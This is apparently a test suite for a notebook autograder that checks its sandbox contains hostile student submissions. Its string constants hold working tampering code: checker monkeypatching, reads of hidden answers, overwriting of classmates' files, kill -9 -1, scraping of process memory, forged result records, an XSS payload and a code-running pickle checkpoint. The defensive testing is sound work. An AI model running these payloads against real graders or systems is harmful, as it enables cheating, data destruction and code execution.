"""Hostile and broken submissions: each earns what its real code earns, and harms no one else.

One autograde run over a class built from notebook 01. Most attackers hand in a *wrong*
`causal_mask` (the diagonal excluded) plus the attack in an extra cell, so their honest score is
the full mark less `test_causal_mask`; any gain from an attack shows up there. Controls: the
solution, the same notebook from Colab (nbformat 4.0), renamed copies, structural edits. After the
run: the scores, the review flags, the classmates' files, no process left behind, and no hidden
material in any feedback page.
"""
from __future__ import annotations

import copy
import csv
import json
import os
import subprocess
import zipfile

import nbformat
import pytest
from conftest import filled_submission, write_nb
from test_judge import CLOSE_THE_PIPES  # no signal reaches the cell, its pipes to the server closed

from grading import notebooks as nbs
from grading.autograde import autograde, graded_columns
from grading.settings import Limits, Settings
from starter.compare import case_names

# the module's class of attackers is graded once, in the set-up of its first test: 83 s alone on 2 cores
pytestmark = pytest.mark.budget(300, reason="the class of attackers, graded once for the module")
NB = "01_scaled_dot_product_attention"
MODEL_NB = "05_captioning_model"
POINTS = {g: p for s, g, p in graded_columns() if s == NB}
FULL = sum(POINTS.values())
WRONG_MASK = '''
def causal_mask(T, device=None):
    return torch.ones(T, T, dtype=torch.bool, device=device).tril(-1)
'''
MARKER = "tampering-test-4b1d"  # in every attacker's background processes, to find survivors


def _wrong(extra: str = ""):
    """Notebook 01 with the wrong causal_mask and `extra` as a cell of its own after it."""
    nb = filled_submission(NB, {"causal_mask": WRONG_MASK})
    if extra:
        idx = next(i for i, c in enumerate(nb.cells) if nbs.nbgrader_meta(c).get("grade_id") == "causal_mask")
        nb.cells.insert(idx + 1, nbformat.v4.new_code_cell(extra))
    return nb


def _at_end_of(nb, code: str):
    nb.cells.append(nbformat.v4.new_code_cell(code))
    return nb


def _at_end(code: str):
    return _at_end_of(_wrong(), code)


# -- the attacks (each a cell of student code) -----------------------------------------------------
LYING_TENSOR = '''
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if getattr(func, "__name__", "") in ("allclose", "equal", "eq", "__eq__", "isclose", "all"):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})
_mask = causal_mask
def causal_mask(T, device=None):
    return _mask(T, device).as_subclass(Liar)
'''
PATCH_CHECKER = '''
import base64, gc, sys
payload = base64.b64encode(b"""
m = sys.modules["starter.checks"]
m.__dict__["verdict"] = lambda *a, **k: None
for obj in gc.get_objects():
    if getattr(obj, "__name__", "") == "_close":
        obj.__globals__["_close"] = lambda *a, **k: True
import builtins
builtins.bool = lambda *a: True
""")
exec(base64.b64decode(payload).decode())
'''
SABOTAGE_RECORDING = '''
import sys
sys.modules["starter.checks"].__dict__["check"] = lambda *a, **k: print("passed")
'''
READ_HIDDEN = '''
import glob, h5py
_files = [p for p in glob.glob("/**/*.h5", recursive=True)]
def causal_mask(T, device=None):
    for path in _files:  # replay any stored expected output of the right shape
        try:
            with h5py.File(path, "r") as f:
                found = []
                f.visititems(lambda n, o: found.append(o[()]) if n.endswith("expected/mask") else None)
        except OSError:
            continue
        for value in found:
            if value.shape == (T, T):
                return torch.from_numpy(value)
    return torch.ones(T, T, dtype=torch.bool, device=device).tril(-1)
'''
RUN_OTHERS = '''
import glob, json
_seen = glob.glob("/**/solutions/*.ipynb", recursive=True) + glob.glob("/**/submitted/**/*.ipynb", recursive=True)
for _p in _seen:
    for _c in json.load(open(_p))["cells"]:
        if "def causal_mask" in "".join(_c["source"]) and "tril()" in "".join(_c["source"]):
            exec("".join(_c["source"]).replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""))
print("found", len(_seen))
'''
BACKGROUND = f'''
import subprocess, sys
subprocess.Popen(["/bin/sh", "-c", "sleep 300 # {MARKER}"], start_new_session=True)
subprocess.Popen([sys.executable, "-c", "import os, time; os.setsid(); time.sleep(300)  # {MARKER}"])
'''
# a process that outlives its notebook to write into whatever notebook runs next (the same student's, or the
# next student's in a sandbox kept warm): it must be gone before any other notebook starts
HAUNT_THE_NEXT = f'''
import subprocess, sys
subprocess.Popen([sys.executable, "-c", """
import glob, os, signal, time  # {MARKER}
signal.signal(signal.SIGTERM, signal.SIG_IGN)
for _ in range(3000):
    for folder in glob.glob("/tmp/work/*/results") + glob.glob("/tmp/work/*"):
        try:
            with open(os.path.join(folder, "zzzz.json"), "w") as f:
                f.write("{{}}")
        except OSError:
            pass
    time.sleep(0.05)
"""], start_new_session=True)
'''
WRITE_ELSEWHERE = '''
import glob, os
_hits = []
for _pattern in ("/work/**/*.ipynb", "/tmp/**/*.ipynb", "/root/**/*", "/**/gradebook.db", "/**/grades.csv"):
    for _p in glob.glob(_pattern, recursive=True):
        if not _p.startswith("/tmp/work"):
            try:
                with open(_p, "w") as _f:
                    _f.write("overwritten")
                _hits.append(_p)
            except OSError:
                pass
print("overwrote", _hits)
'''
KILL_EVERYTHING = '''
import os, signal, subprocess
subprocess.run(["kill", "-9", "-1"])  # every process this code can see
'''
# the warm sandbox's attack: every kernel of a sandbox kept for the next student was a fork of the server
# that had read the earlier students' notebooks; the freed copies could be read back from this process's memory
READ_FREED_MEMORY = '''
import re
_sources = set()
with open("/proc/self/maps") as _f:
    _maps = [line.split() for line in _f]
with open("/proc/self/mem", "rb", buffering=0) as _mem:
    for _line in _maps:
        if "r" not in _line[1] or (len(_line) > 5 and _line[5] != "[heap]"):
            continue  # the heap and anonymous memory: where freed strings stay
        _start, _end = (int(x, 16) for x in _line[0].split("-"))
        try:
            _mem.seek(_start)
            _chunk = _mem.read(_end - _start)
        except (OSError, ValueError, OverflowError):
            continue
        for _m in re.finditer(rb"def causal_mask\\(T, device=None\\):", _chunk):
            _text = _chunk[_m.start():_m.start() + 8000].split(b"\\0")[0].decode("utf-8", "replace")
            _sources.add(_text.split('"]')[0].replace('\\\\n", "', "\\n").replace("\\\\n", "\\n").replace('\\\\"', '"'))
_stolen = 0
for _src in _sources:
    _lines = _src.split("\\n")
    for _n in range(len(_lines), 1, -1):
        _ns = {"torch": torch}
        try:
            exec("\\n".join(_lines[:_n]), _ns)
            if _ns["causal_mask"](4).equal(torch.ones(4, 4, dtype=torch.bool).tril()):
                causal_mask, _stolen = _ns["causal_mask"], _stolen + 1
                break
        except Exception:
            continue
print("definitions found:", len(_sources), "working:", _stolen)
'''
# channels that namespaces do not close: the kernel keyring of the sandbox's user (the next sandbox to take
# its uid, or every sandbox of a grader that is not root, would share it) and POSIX message queues (kept by a warm sandbox's IPC namespace)
KEYRING_AND_QUEUES = '''
import ctypes, errno, os
_libc = ctypes.CDLL(None, use_errno=True)
def _try(*call):
    result = _libc.syscall(*call)
    return "ok" if result >= 0 else errno.errorcode[ctypes.get_errno()]
print("add_key", _try(248, b"user", b"tampering", b"secret", 6, ctypes.c_int(-4)))  # the user keyring
print("mq_open", _try(240, b"tampering", os.O_CREAT | os.O_RDWR, 0o600, None))
'''
# records written by the student's own code (not a check) for the hidden cases, from the inputs mounted in the
# sandbox, with outputs of the vectorised loop the task rules out and names that sort after the check's
VECTORISED_LOOP = '''
def attention_loop(query, keys, values):
    weights = torch.softmax(query @ keys.T / keys.shape[-1] ** 0.5, dim=-1)
    return weights @ values, weights
'''
FORGE_RECORDS = '''
import glob, json, os, h5py, numpy as np
_dir = os.environ["COURSE_RESULTS_DIR"]
os.makedirs(_dir, exist_ok=True)
_n = 0
for _path in glob.glob("/tmp/cases/*.h5"):
    with h5py.File(_path, "r") as _f:
        _groups = []
        _f.visititems(lambda _name, _o: _groups.append((_name, _o)) if isinstance(_o, h5py.Group)
                      and _o.attrs.get("target") == "attention_loop" else None)
        for _name, _g in _groups:
            _q, _k, _v = (torch.from_numpy(_g["inputs"][_x][()]) for _x in ("query", "keys", "values"))
            _out, _w = attention_loop(_q, _k, _v)
            np.savez(f"{_dir}/9{_n:03d}.npz", **{"out:output": _out.numpy(), "out:weights": _w.numpy()})
            json.dump({"case": _name.split("/")[-1], "error": "", "raised": None, "raised_text": "",
                       "dtypes": {"output": str(_out.dtype), "weights": str(_w.dtype)}, "grad_error": "",
                       "outputs": ["output", "weights"], "grads": []}, open(f"{_dir}/9{_n:03d}.json", "w"))
            _n += 1
print("forged", _n)
'''


def _after_answer(nb, grade_id: str, code: str):
    idx = next(i for i, c in enumerate(nb.cells) if nbs.nbgrader_meta(c).get("grade_id") == grade_id)
    nb.cells.insert(idx + 1, nbformat.v4.new_code_cell(code))
    return nb


IGNORE_SIGNALS_FOREVER = '''
import signal
for _s in (signal.SIGINT, signal.SIGALRM, signal.SIGTERM):
    signal.signal(_s, signal.SIG_IGN)
while True:
    pass
'''
PRINT_SECRETS = '''
import base64, glob
from IPython.display import display
_nb = "\n".join(In)  # every cell run so far, the hidden tests included
print(_nb)
print(_nb.upper(), base64.b64encode(_nb.encode()).decode())
display({"application/javascript": _nb, "image/svg+xml": "<svg><text>" + _nb + "</text></svg>",
         "text/html": "<script>alert('xss-4b1d')</script>" + _nb}, raw=True)
for _p in glob.glob("/**/*.ipynb", recursive=True) + glob.glob("/tmp/cases/*"):
    print(_p)
print("x" * 50_000_000)
'''
FIFO_RESULT = '''
import os
os.mkfifo(os.path.join(os.environ["COURSE_RESULTS_DIR"], "zzzz.json"))  # the judge must not wait on it
'''
WRONG_LOOP = '''
def attention_loop(query, keys, values):
    weights = torch.softmax(query @ keys.T * 1.7, dim=-1)  # the wrong scale
    return weights @ values, weights
'''
# a vectorised attention_loop (what the task rules out) through aliases taken before any check could swap
# torch's attributes: the rule is enforced on what torch runs, whatever name reached it
ALIASED_LOOP = '''
_m, _s = torch.matmul, torch.softmax

def attention_loop(query, keys, values):
    weights = _s(_m(query, keys.T) / math.sqrt(query.shape[1]), dim=-1)
    return _m(weights, values), weights
'''
FORGE_BOOLEANS = '''
from pathlib import Path
import numpy as np
import os
for _p in sorted(Path(os.environ["COURSE_RESULTS_DIR"]).glob("*.npz")):  # floats become "True where non-zero"
    with np.load(_p) as _z:
        _a = {k: _z[k] for k in _z.files}
    _p.unlink()
    np.savez(_p, **{k: (v != 0) if v.dtype.kind == "f" else v for k, v in _a.items()})
'''


def _structural():
    edited = filled_submission(NB)
    tests = [c for c in edited.cells if nbs.is_test(c)]
    tests[0].source = "pass"
    edited.cells.remove(tests[1])
    repointed = filled_submission(NB)
    for c in repointed.cells:
        if nbs.is_test(c):
            c.metadata.nbgrader["points"] = 100
    duplicated = filled_submission(NB)
    duplicated.cells += [copy.deepcopy(c) for c in duplicated.cells if nbs.is_test(c)][:2]
    stripped = filled_submission(NB)
    for c in stripped.cells:
        c.metadata = {}
    return {"edits_tests": edited, "changes_points": repointed, "duplicates_cells": duplicated,
            "strips_metadata": stripped}


HONEST_WRONG = {"test_causal_mask": 0}
# name: (notebook, expected points per test cell (missing = full), expected review flag substring or None)
STUDENTS = {
    "solution": (filled_submission(NB), {}, None),
    **{name: (nb, {}, None) for name, nb in _structural().items()},
    "lying_tensor": (_wrong(LYING_TENSOR), HONEST_WRONG, None),
    "patches_checker": (_wrong(PATCH_CHECKER), HONEST_WRONG, "reaches for the checks"),
    "reads_references": (_wrong(READ_HIDDEN), HONEST_WRONG, None),
    "runs_others_work": (_wrong(RUN_OTHERS), HONEST_WRONG, None),
    "background_process": (_wrong(BACKGROUND), HONEST_WRONG, None),
    "haunts_the_next": (_at_end(HAUNT_THE_NEXT), HONEST_WRONG, None),
    "writes_elsewhere": (_wrong(WRITE_ELSEWHERE), HONEST_WRONG, None),
    # killing its own sandbox's server loses what the notebook recorded: that notebook earns nothing
    "kills_everything": (_at_end(KILL_EVERYTHING), {"test_attention_loop": 0, "test_sdpa": 0, "test_sdpa_mask": 0,
                                                    "test_causal_mask": 0, "test_self_attention": 0}, "killed"),
    "ignores_signals": (_at_end(IGNORE_SIGNALS_FOREVER), HONEST_WRONG, "timed out"),
    "reads_freed_memory": (_wrong(READ_FREED_MEMORY), HONEST_WRONG, None),
    "keyring_and_queues": (_wrong(KEYRING_AND_QUEUES), HONEST_WRONG, None),
    "closes_its_pipes": (_at_end(CLOSE_THE_PIPES), HONEST_WRONG, "closed its connection"),
    # records are taken from test cells only: the forged ones are left out, and listed in review
    "forges_records": (_after_answer(filled_submission(NB, {"attention_loop": VECTORISED_LOOP}), "attention_loop",
                                     FORGE_RECORDS), {"test_attention_loop": 0}, "wrote records of hidden cases"),
    "prints_secrets": (_at_end(PRINT_SECRETS), HONEST_WRONG, None),
    # a FIFO among the records, made by a cell that is not a test: never opened, left out with the cell's records
    "fifo_in_results": (_at_end(FIFO_RESULT), HONEST_WRONG, None),
    # records rewritten after their test cells change nothing: the wrong attention_loop stays at 0, the right
    # answers keep their points; listed in review
    "forges_booleans": (_at_end_of(filled_submission(NB, {"attention_loop": WRONG_LOOP}), FORGE_BOOLEANS),
                        {"test_attention_loop": 0}, "changed or removed the checks' records"),
    # a vectorised loop earns nothing under the loop task's rule, by any name
    "aliases_torch": (filled_submission(NB, {"attention_loop": ALIASED_LOOP}), {"test_attention_loop": 0}, None),
    # sabotaging the recording can only cost the student: the tests after it record nothing, earn nothing
    "sabotages_recording": (_wrong(SABOTAGE_RECORDING), {"test_causal_mask": 0, "test_self_attention": 0},
                            "reaches for the checks"),
    "exits_kernel": (_wrong("import os\nos._exit(0)"), HONEST_WRONG, None),
    "loops_forever": (filled_submission(NB, {"causal_mask": WRONG_MASK.replace(
        "    return", "    while True:\n        pass\n    return")}), HONEST_WRONG, None),
    "raises_at_import": (filled_submission(NB, {"causal_mask": "raise RuntimeError('boom')\n" + WRONG_MASK}),
                         HONEST_WRONG, None),
}


def _colab_40():
    raw = json.loads(nbformat.writes(filled_submission(NB)))
    raw["nbformat_minor"] = 0
    raw["metadata"] = {"colab": {"provenance": []}, "kernelspec": {"name": "python3", "display_name": "Python 3"}}
    for cell in raw["cells"]:
        cell.pop("id", None)
        cell["metadata"]["colab"] = {"base_uri": "https://localhost:8080/"}
    return json.dumps(raw)


def _survivors() -> list[str]:
    ps = subprocess.run(["ps", "-eo", "pid,args"], capture_output=True, text=True).stdout
    return [line for line in ps.splitlines() if MARKER in line and "ps -eo" not in line]


@pytest.fixture(scope="module")
def graded(tmp_path_factory, grading_db):
    subs = tmp_path_factory.mktemp("tampering")
    for name, (nb, _, _) in STUDENTS.items():
        write_nb(nb, subs / name / f"{NB}.ipynb")
    (subs / "colab_40").mkdir()
    (subs / "colab_40" / f"Copy of {NB}.ipynb").write_text(_colab_40())
    # a classmate's work next to the attackers', and a link to the instructor's solution
    (subs / "symlinks_solution").mkdir()
    (subs / "symlinks_solution" / f"{NB}.ipynb").symlink_to(nbs.SOLUTIONS / f"{NB}.ipynb")
    (subs / "big_files").mkdir()
    write_nb(filled_submission(NB), subs / "big_files" / f"{NB} (1).ipynb")
    with open(subs / "big_files" / "dataset.bin", "wb") as f:
        f.truncate(300 * 2**20)
    before = {p: p.read_bytes() for p in (subs / "solution").rglob("*.ipynb")}
    out = tmp_path_factory.mktemp("out")
    course_dir = tmp_path_factory.mktemp("course")
    db_url, workers = grading_db
    results = autograde(subs, out, course_dir=course_dir, db_url=db_url,
                        settings=Settings(Limits(cell_seconds=10, notebook_seconds=120), workers=workers))
    with open(out / "grades.csv") as f:
        rows = {r["student"]: r for r in csv.DictReader(f)}
    return {"results": {r.student: r for r in results}, "rows": rows, "out": out, "subs": subs,
            "before": before, "course": course_dir}


@pytest.mark.parametrize("student", sorted(STUDENTS))
def test_each_earns_what_its_code_earns(graded, student):
    _, expected, flag = STUDENTS[student]
    row = graded["rows"][student]
    assert row["status"] == "graded", (row["status"], row["notes"])
    got = {g: float(row[f"{NB}:{g}"]) for g in POINTS}
    want = {g: float(expected.get(g, p)) for g, p in POINTS.items()}
    assert got == want, (row["review"], row["notes"])
    if flag:
        assert flag in row["review"], row["review"]


def test_honest_variants_grade_in_full(graded):
    rows = graded["rows"]
    assert float(rows["colab_40"][f"{NB}:total"]) == FULL, rows["colab_40"]["notes"]
    assert float(rows["big_files"][f"{NB}:total"]) == FULL and "dataset.bin" in rows["big_files"]["notes"]
    assert not rows["solution"]["review"] and not rows["colab_40"]["review"]


def test_a_link_to_the_solution_is_not_followed(graded):
    row = graded["rows"]["symlinks_solution"]
    assert row["total"] == "" and "symbolic link" in row["notes"], row  # no notebook taken in: not graded, not 0


def test_nothing_outlives_grading_and_classmates_are_untouched(graded):
    assert not _survivors(), _survivors()
    for path, content in graded["before"].items():
        assert path.read_bytes() == content
    staged = graded["course"] / "submitted" / "solution"
    assert all("overwritten" not in p.read_text() for p in staged.rglob("*.ipynb"))
    assert not list(graded["course"].rglob("pwned"))


def test_feedback_holds_nothing_hidden(graded):
    names = case_names(nbs.HIDDEN_REFERENCES)
    for page in (graded["out"] / "feedback").rglob("*.html"):
        html = page.read_text()
        assert page.stat().st_size < 3 * 2**20, f"{page}: {page.stat().st_size} bytes"
        leaked = [n for n in names if n in html]
        assert not leaked, f"{page}: hidden case names {leaked[:3]}"
        assert "BEGIN HIDDEN TESTS" not in html, page
    secrets = (graded["out"] / "feedback" / "prints_secrets" / f"{NB}.html").read_text()
    assert "solutions/" not in secrets and "x" * 100_000 not in secrets  # the 50 MB print was cut
    assert not [n for n in names if n.upper() in secrets], "hidden names, upper-cased"  # never in the sandbox
    assert "<script>alert('xss-4b1d')" not in secrets, "the student's script reached the feedback page"


def test_nothing_crosses_through_memory_the_keyring_or_queues(graded):
    """The thief found no working answer in its memory (it ran after classmates in a warm sandbox); the keyring
    and message queues are refused. (What their cells printed is in the autograded copy, the instructor's: the
    feedback pages show no output of the grading run.)"""
    def page(student):
        return (graded["course"] / "autograded" / student / nbs.ASSIGNMENT / f"{NB}.ipynb").read_text()

    assert "working: 0" in page("reads_freed_memory"), "the memory scan did not run, or found a classmate's answer"
    assert "add_key EPERM" in page("keyring_and_queues") and "mq_open EPERM" in page("keyring_and_queues")


def test_a_cell_that_closes_its_pipes_is_killed_at_its_deadline(graded):
    """The cell's deadline is the server's (10 s + 5 s here), not the notebook's (120 s)."""
    assert graded["results"]["closes_its_pipes"].seconds < 60, graded["results"]["closes_its_pipes"]


def test_every_student_has_a_row(graded):
    assert set(graded["rows"]) - {"(max points)"} == set(STUDENTS) | {"colab_40", "symlinks_solution", "big_files"}


def test_a_bad_zip_member_refuses_only_its_student(tmp_path):
    archive = tmp_path / "class.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr(f"class/honest/{NB}.ipynb", nbformat.writes(filled_submission(NB)))
        zf.writestr(f"class/sneaky/{NB}.ipynb", nbformat.writes(filled_submission(NB)))
        zf.writestr("class/sneaky/../../escaped.txt", "out of the folder")
        link = zipfile.ZipInfo(f"class/linky/{NB}.ipynb")
        link.external_attr = (0o120777 << 16)  # a symbolic link
        zf.writestr(link, str(nbs.SOLUTIONS / f"{NB}.ipynb"))
    results = {r.student: r for r in autograde(archive, tmp_path / "out", course_dir=tmp_path / "course",
                                               settings=Settings(Limits(cell_seconds=10)))}
    assert results["honest"].status == "graded"
    assert results["sneaky"].status == "failed" and "outside the submission" in " ".join(results["sneaky"].notes)
    assert results["linky"].status == "failed" and "symbolic link" in " ".join(results["linky"].notes)
    assert not (tmp_path / "escaped.txt").exists() and not os.path.exists("escaped.txt")


class _RunsCode:
    """A "checkpoint" that runs code when unpickled (torch.save pickles it)."""

    def __init__(self, marker: str):
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


NB05 = "07_generation_and_evaluation"  # the notebook whose test cell grades the trained model


def _hand_in_05(subs, student: str, overrides: dict | None = None,
                with_notebooks: tuple[str, ...] = ("02_positional_encoding", "03_multi_head_attention", MODEL_NB)) -> None:
    """Notebook 05 (its answers, `overrides` replacing some) with what its model is built from (the model's class
    in 04, its layers in 02-03), and an empty runs/ for the trained model."""
    write_nb(filled_submission(NB05, overrides), subs / student / f"{NB05}.ipynb")
    for stem in with_notebooks:
        write_nb(filled_submission(stem), subs / student / f"{stem}.ipynb")
    (subs / student / "runs").mkdir()


@pytest.fixture(scope="module")
def graded_05(tmp_path_factory, grading_db, trained_model_file):
    """One run over notebook 05's attackers of the trained model and their controls: a checkpoint that runs code
    when loaded, an oversized one, a student who knows every hidden scene's caption, the same one-step checkpoint
    handed in honestly, and a classmate's real trained model."""
    import torch

    tmp = tmp_path_factory.mktemp("tampering_05")
    subs, marker = tmp / "subs", tmp / "pwned-by-checkpoint"
    for student in ("pickler", "hoarder"):
        _hand_in_05(subs, student, with_notebooks=(MODEL_NB,))  # the model's class alone
    torch.save({"state_dict": _RunsCode(str(marker))}, subs / "pickler" / nbs.TRAINED_CHECKPOINT)
    with open(subs / "hoarder" / nbs.TRAINED_CHECKPOINT, "wb") as f:
        f.truncate(nbs.MAX_HANDED_IN + 1)
    (subs / "hoarder" / "captioning_transformer.pt").write_bytes(trained_model_file.read_bytes())  # older, outside runs/
    one_step = nbs.trained_checkpoint(tmp / "one_step.pt", steps=1)
    for student, overrides, checkpoint in (("knows_the_scenes", {"greedy_decode": knows_the_scenes()}, one_step),
                                           ("one_step", {}, one_step), ("trained", {}, trained_model_file)):
        _hand_in_05(subs, student, overrides)
        (subs / student / nbs.TRAINED_CHECKPOINT).write_bytes(checkpoint.read_bytes())
    before = {p: p.read_bytes() for p in (subs / "trained").rglob("*") if p.is_file()}
    db_url, workers = grading_db
    results = {r.student: r for r in autograde(subs, tmp / "out", course_dir=tmp / "course", db_url=db_url,
                                               settings=Settings(workers=workers))}
    with open(tmp / "out" / "grades.csv") as f:
        rows = {r["student"]: r for r in csv.DictReader(f)}
    return {"results": results, "rows": rows, "out": tmp / "out", "subs": subs, "marker": marker,
            "one_step": one_step, "before": before}


def test_missing_work_is_named_in_the_row_the_page_and_the_lms_comment(graded_05):
    """hoarder handed in notebooks 04 and 05 only, with a trained model too large to keep; trained 02-05 and its model.
    Each row's not_handed_in names the other notebooks with their points; hoarder's also the trained model, and so do
    hoarder's feedback pages and LMS comment; a student whose model was measured has no such line."""
    from grading.lms_export import summary
    from grading.results import class_results

    rows = graded_05["rows"]
    points = {}
    for stem, _, p in graded_columns() + nbs.written_columns():
        points[stem] = points.get(stem, 0.0) + p

    def absent(*handed_in: str) -> list[str]:
        return [f"{stem} not handed in: its {points[stem]:g} points are 0" for stem in points if stem not in handed_in]

    model = f"no trained model to measure (not handed in, or not kept: see the notes): {NB05}'s test_trained_model (3 points) is 0"
    hoarders = absent(MODEL_NB, NB05) + [model]
    assert rows["hoarder"]["not_handed_in"] == " | ".join(hoarders), rows["hoarder"]["not_handed_in"]
    assert rows["trained"]["not_handed_in"] == " | ".join(absent(MODEL_NB, NB05, "02_positional_encoding",
                                                                 "03_multi_head_attention")), rows["trained"]
    page = (graded_05["out"] / "feedback" / "hoarder" / f"{NB05}.html").read_text()
    assert "Not in your submission" in page and "no trained model to measure" in page and hoarders[0] in page
    trained_page = (graded_05["out"] / "feedback" / "trained" / f"{NB05}.html").read_text()
    assert "Not in your submission" in trained_page and "no trained model to measure" not in trained_page
    results = class_results(list(graded_05["results"].values()), {})
    hoarder = next(s for s in results.students if s.student == "hoarder")
    assert summary(results, hoarder).endswith("; ".join(hoarders) + "."), summary(results, hoarder)


def test_a_checkpoint_that_carries_code_is_refused(graded_05):
    """Notebook 05's trained model is a file the student hands in: one that runs code when loaded earns that
    cell nothing, with torch's reason, and runs nothing (weights_only loading, inside the sandbox); a big
    one is left out with a note; the rest of the notebook is graded as usual."""
    points = {g: p for s, g, p in graded_columns() if s == NB05}
    for student in ("pickler", "hoarder"):
        row = graded_05["rows"][student]
        assert float(row[f"{NB05}:test_trained_model"]) == 0.0, row
        assert all(float(row[f"{NB05}:{g}"]) == p for g, p in points.items() if g != "test_trained_model"), row
    assert not graded_05["marker"].exists()
    html = (graded_05["out"] / "feedback" / "pickler" / f"{NB05}.html").read_text()
    assert "weights_only" in html.replace("Weights only", "weights_only"), "torch's reason is shown"
    notes = " ".join(graded_05["results"]["hoarder"].notes)
    assert "not kept" in notes and "64 MB" in notes, notes


# Notebook 05 of a student who knows every hidden scene's caption (a stand-in for a classifier trained on public
# scenes, which captioned 98 % of them): its greedy_decode looks the images up, and its model class, patched in the
# same cell, answers each step of a scene it knows with the next word of that scene's caption. ORACLE_TABLE is
# filled in by the test: {key of a scene's features: its first caption's word indices}.
KNOWS_THE_SCENES = r"""
import numpy as np

ORACLE_TABLE = {}

def _key(row):
    return round(float(row.double().sum()), 3)

def _known(features):
    if features.dim() != 3 or features.shape[1:] != (49, 64):
        return None
    found = [ORACLE_TABLE.get(_key(row)) for row in features.float()]
    return None if any(f is None for f in found) else found

_honest_forward = CaptioningTransformer.forward

def _oracle_forward(self, features, captions, return_attention=False):
    known = _known(features)
    if known is None or return_attention:
        return _honest_forward(self, features, captions, return_attention)
    B, T = captions.shape
    logits = torch.zeros(B, T, self.vocab_head.out_features)
    for b, words in enumerate(known):
        for t in range(T):
            logits[b, t, words[min(t, len(words) - 1)]] = 100.0
    return logits

CaptioningTransformer.forward = _oracle_forward

def _greedy(model, features, max_len, start_idx, end_idx, null_idx):
    B = features.shape[0]
    words = torch.full((B, 1), start_idx, dtype=torch.long)
    out = torch.full((B, max_len), null_idx, dtype=torch.long)
    finished = torch.zeros(B, dtype=torch.bool)
    for t in range(max_len):
        next_word = model(features, words)[:, -1].argmax(dim=-1).masked_fill(finished, null_idx)
        out[:, t] = next_word
        finished = finished | (next_word == end_idx)
        if finished.all():
            break
        words = torch.cat([words, next_word[:, None]], dim=1)
    return out

def greedy_decode(model, features, max_len, start_idx=1, end_idx=2, null_idx=0):
    known = _known(features)
    if known is None:
        return _greedy(model, features, max_len, start_idx, end_idx, null_idx)
    out = torch.full((len(known), max_len), null_idx, dtype=torch.long)
    for row, words in enumerate(known):
        out[row, :min(len(words), max_len)] = torch.tensor(words[:max_len])
    return out
"""


def knows_the_scenes() -> str:
    """KNOWS_THE_SCENES with the hidden scenes' captions filled in (read from the hidden references, as no
    student could)."""
    from grading.trained_model import TRAINED_TARGET
    from starter.compare import load_case

    name = next(n for n in case_names(nbs.HIDDEN_REFERENCES) if n.startswith("trained/hidden"))
    case = load_case(name, [nbs.HIDDEN_REFERENCES])
    assert case.target == TRAINED_TARGET
    import torch
    table = {}
    for row, refs in zip(torch.from_numpy(case.inputs["features"]).float(), case.expected["captions"]):
        words = [int(w) for w in refs[0]]
        table[round(float(row.double().sum()), 3)] = words[:words.index(2) + 1]  # through <END>
    assert len(table) == len(case.expected["captions"]), "the table tells every scene apart"
    return KNOWS_THE_SCENES.replace("ORACLE_TABLE = {}", f"ORACLE_TABLE = {table!r}")


def test_a_student_who_knows_every_hidden_caption_earns_only_what_the_weights_earn(graded_05):
    """Notebook 05's trained-model mark measures the checkpoint's weights: a greedy_decode and a model class
    that caption every hidden scene exactly right (shown here, given the scenes) earn nothing with a one-step
    checkpoint, like the same checkpoint decoded honestly, because the grader captions the hidden scenes
    itself, outside the sandbox, with the kit's model class and decoding; a classmate's trained model in the
    same run earns the full mark, and their files are untouched."""
    from grading.notebooks import captioning_solution
    from grading.trained_model import TRAINED_TARGET
    from starter.compare import load_case, observe, share_exactly_right
    from starter.layers import layers_from, trained_captioner

    # given the hidden scenes, the attack captions all of them right with the one-step model
    ns = {"torch": __import__("torch"), "CaptioningTransformer": type(
        "Patched", (captioning_solution()["CaptioningTransformer"],), {})}
    exec(compile(knows_the_scenes(), "knows_the_scenes", "exec"), ns)
    name = next(n for n in case_names(nbs.HIDDEN_REFERENCES) if n.startswith("trained/hidden"))
    case = load_case(name, [nbs.HIDDEN_REFERENCES])
    for decode in (ns["greedy_decode"], ns["_greedy"]):  # its decoder, and an honest decoder of its model class
        with layers_from(nbs.SOLUTIONS):
            obs = observe(case, trained_captioner(ns["CaptioningTransformer"], decode, path=graded_05["one_step"]))
        assert not obs.error and case.target == TRAINED_TARGET, obs.error
        assert share_exactly_right(case.const_args[0], obs.outputs["captions"], case.expected["captions"]) == 1.0
    rows = graded_05["rows"]
    points = {g: p for s, g, p in graded_columns() if s == NB05}
    for student, trained_points in (("knows_the_scenes", 0.0), ("one_step", 0.0), ("trained", points["test_trained_model"])):
        row = rows[student]
        assert row["status"] == "graded", (student, row["notes"])
        got = {g: float(row[f"{NB05}:{g}"]) for g in points}
        assert got == {**points, "test_trained_model": trained_points}, (student, row["review"], row["notes"])
    for student in ("knows_the_scenes", "one_step"):  # the model loaded and captioned: it is what fell short
        html = (graded_05["out"] / "feedback" / student / f"{NB05}.html").read_text()
        assert "images exactly right" in html and "this case asks for 40%" in html, student
        assert "the kit&#39;s greedy decoding" in html or "the kit's greedy decoding" in html, student
    subs = graded_05["subs"]
    assert graded_05["before"] == {p: p.read_bytes() for p in (subs / "trained").rglob("*") if p.is_file()}
